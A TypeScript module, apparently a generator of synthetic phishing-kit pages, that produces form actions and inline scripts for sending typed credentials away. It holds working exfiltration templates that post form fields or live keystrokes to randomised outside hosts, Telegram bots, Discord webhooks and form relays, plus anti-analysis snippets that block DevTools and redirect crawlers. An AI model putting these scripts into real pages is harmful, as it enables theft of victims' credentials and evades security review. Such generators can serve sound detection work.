import type { Chance } from '../chance.ts'

/** The attributes of a form and the script that sends it. */
export interface Sink {
  readonly open: string
  readonly script: string
}

const far = (chance: Chance) =>
  `${chance.of(['', 'api.', 'panel.', 'gate.'])}${chance.name(3)}${chance.of(['', chance.digits(2)])}.${chance.of(['com', 'top', 'ru', 'xyz', 'su', 'info', 'cc'])}`
const php = (chance: Chance) =>
  chance.of(['send', 'inc/act', 'next', 'config/mail', 'result', `${chance.letters(5)}`, 'system/step1']) +
  '.php'
const code = (text: string) => `<script>${text}</script>`

const own = (chance: Chance): Sink => ({
  open: chance.of([
    `action="${php(chance)}" method="post"`,
    `method="POST" action="./${php(chance)}?token=${chance.hex(12)}" autocomplete="off"`,
    'method="post"',
  ]),
  script: '',
})

const foreign = (chance: Chance): Sink => ({
  open: `name="f" method="post" action="${chance.of(['https', 'https', 'http'])}://${far(chance)}/${php(chance)}"`,
  script: '',
})

const called = (chance: Chance): Sink => ({
  open: 'id="kf" novalidate',
  script: code(
    `const form=document.getElementById('kf');form.addEventListener('submit',async(ev)=>{ev.preventDefault();const body=Object.fromEntries(new FormData(form));await fetch('https://${far(chance)}/${chance.of(['api/log', 'collect', 'v1/entry', 'hook'])}',{method:'POST',mode:'no-cors',body:JSON.stringify({...body,ua:navigator.userAgent})});location.href='${chance.of(['step2.html', 'wait.html', '#sms'])}'});`,
  ),
})

const asked = (chance: Chance): Sink => ({
  open: 'onsubmit="return envoi(this)"',
  script: code(
    `function envoi(f){var x=new XMLHttpRequest(),q=[];for(var i=0;i<f.elements.length;i++){q.push(encodeURIComponent(f.elements[i].name)+'='+encodeURIComponent(f.elements[i].value))}x.open('POST','${php(chance)}',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onload=function(){document.getElementById('ld').style.display='block'};x.send(q.join('&'));return false}`,
  ),
})

const bot = (chance: Chance): Sink => {
  const token = `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, 'q')}`
  const url = chance.of([
    `"https://api.telegram.org/bot${token}/sendMessage"`,
    `"https://api."+"telegram.org"+"/bot"+tk+"/sendMessage"`,
  ])
  return {
    open: 'id="kf"',
    script: code(
      `var tk="${token}",chat="-100${chance.digits(10)}";document.getElementById("kf").onsubmit=function(e){e.preventDefault();var t="== NEW ==\\n";this.querySelectorAll("input").forEach(function(n){t+=n.name+": "+n.value+"\\n"});fetch(${url},{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({chat_id:chat,text:t})})};`,
    ),
  }
}

const socket = (chance: Chance): Sink => ({
  open: 'id="kf" data-step="1"',
  script: code(
    `let ws=new WebSocket("wss://${far(chance)}/ws?sid=${chance.hex(10)}");ws.onmessage=m=>{const c=JSON.parse(m.data);document.querySelectorAll("[data-screen]").forEach(s=>s.hidden=s.dataset.screen!==c.show)};kf.addEventListener("submit",e=>{e.preventDefault();ws.send(JSON.stringify({t:"in",d:[...new FormData(kf)]}))});kf.addEventListener("input",e=>ws.send(JSON.stringify({t:"key",n:e.target.name,v:e.target.value})));`,
  ),
})

const service = (chance: Chance): Sink => ({
  open: `method="post" action="${chance.of([
    `https://formspree.io/f/${chance.letters(8)}`,
    `https://formsubmit.co/${chance.hex(32)}`,
    `https://submit-form.com/${chance.letters(9)}`,
    `https://getform.io/f/${chance.hex(8)}-${chance.hex(4)}`,
    `https://docs.google.com/forms/d/e/1FAIp${chance.letters(20)}/formResponse`,
  ])}"`,
  script: '',
})

const hook = (chance: Chance): Sink => ({
  open: 'id="kf"',
  script: code(
    `kf.onsubmit=e=>{e.preventDefault();navigator.sendBeacon("https://discord.com/api/webhooks/${chance.digits(18)}/${chance.letters(40)}",new Blob([JSON.stringify({content:[...new FormData(kf)].map(p=>p.join(": ")).join("\\n")})],{type:"application/json"}))}`,
  ),
})

const SINKS = [own, own, own, foreign, called, asked, bot, socket, service, hook]

/** The way in which a kit sends off what was typed. */
export const sinkOf = (chance: Chance): Sink => chance.of(SINKS)(chance)

/** Code against analysis; mostly none. */
export function guards(chance: Chance): string {
  const kept = [
    'document.addEventListener("contextmenu",e=>e.preventDefault());',
    'setInterval(function(){debugger},400);',
    'document.onkeydown=function(e){if(e.ctrlKey&&"usi".indexOf(e.key)>=0||e.key=="F12"){return false}};',
    'if(navigator.webdriver||/bot|crawl|spider/i.test(navigator.userAgent)){location="about:blank"}',
  ]
  return chance.maybe(0.3) ? code(chance.of(kept)) : ''
}
